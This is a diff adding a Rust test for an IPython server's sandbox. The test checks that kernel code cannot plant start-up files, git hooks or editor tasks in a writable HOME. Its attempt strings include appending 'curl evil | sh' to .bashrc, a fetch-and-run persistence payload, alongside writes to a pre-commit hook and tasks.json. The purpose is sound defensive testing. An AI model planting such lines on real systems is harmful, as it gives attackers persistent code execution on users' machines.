@@ -376,6 +376,81 @@ async fn read_only_writes_nothing_but_the_temp_directory() {
     assert!(printed.starts_with("allowed temp"), "{printed}");
 }
 
+/// A server started in HOME makes HOME the workspace: kernel code must still not write what
+/// the user runs later outside the sandbox (a shell start-up file, a git hook, an editor's
+/// settings), while the rest of HOME stays writable. The same tries succeed with the sandbox
+/// off (control).
+#[tokio::test]
+async fn kernel_code_cannot_plant_what_runs_outside_the_sandbox_in_a_writable_home() {
+    if !cfg!(target_os = "linux") {
+        panic!("the sandbox tests run on Linux");
+    }
+    for mode in ["workspace-write", "off"] {
+        let home = private_dir("home");
+        std::fs::create_dir_all(home.path().join(".ssh")).expect("mkdir");
+        std::fs::write(home.path().join(".ssh/id_ed25519"), "SECRET\n").expect("secret");
+        std::fs::create_dir_all(home.path().join(".git/hooks")).expect("mkdir");
+        std::fs::create_dir_all(home.path().join(".vscode")).expect("mkdir");
+        for file in [".bashrc", ".profile", "notes.txt"] {
+            std::fs::write(home.path().join(file), "# mine\n").expect("write");
+        }
+        let root = home.path().to_str().expect("utf-8");
+        let server = Server::start(
+            Family::Modern,
+            &[
+                ("IPYTHON_MCP_SANDBOX", mode),
+                ("HOME", root),
+                ("IPYTHON_MCP_WORKSPACE_ROOT", root),
+            ],
+        )
+        .await;
+        let mut code = String::new();
+        for (label, attempt) in [
+            (
+                "bashrc",
+                "open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')",
+            ),
+            (
+                "profile",
+                "os.replace(os.path.expanduser('~/notes.txt'), os.path.expanduser('~/.profile'))",
+            ),
+            (
+                "hook",
+                "open(os.path.expanduser('~/.git/hooks/pre-commit'), 'w').write('#!/bin/sh\\n')",
+            ),
+            (
+                "vscode",
+                "open(os.path.expanduser('~/.vscode/tasks.json'), 'w').write('{}')",
+            ),
+        ] {
+            code.push_str(&try_it(label, attempt));
+        }
+        let printed = run(&server, &format!("import os\n{code}")).await;
+        let bashrc = std::fs::read_to_string(home.path().join(".bashrc")).expect("bashrc");
+        if mode == "off" {
+            assert_eq!(printed.matches("allowed").count(), 4, "control: {printed}");
+            assert!(bashrc.contains("evil"), "control: {bashrc}");
+        } else {
+            assert_eq!(printed.matches("denied").count(), 4, "{printed}");
+            assert_eq!(bashrc, "# mine\n");
+            assert!(!home.path().join(".git/hooks/pre-commit").exists());
+            assert!(!home.path().join(".vscode/tasks.json").exists());
+            // Still readable, and the rest of HOME still writable.
+            let printed = run(
+                &server,
+                "import os\nprint(open(os.path.expanduser('~/.bashrc')).read().strip())\n\
+                 open(os.path.expanduser('~/notes.txt'), 'a').write('more\\n')\nprint('wrote')",
+            )
+            .await;
+            assert_eq!(printed, "# mine\nwrote\n");
+            let status = server.call("runtime_status", json!({})).await;
+            let limits = status.structured["kernel"]["sandbox"]["limits"].to_string();
+            assert!(limits.contains(".bashrc"), "{limits}");
+        }
+        server.stop().await;
+    }
+}
+
 #[tokio::test]
 async fn off_runs_the_kernel_unconfined_and_says_so() {
     let setup = sandboxed("off").await;
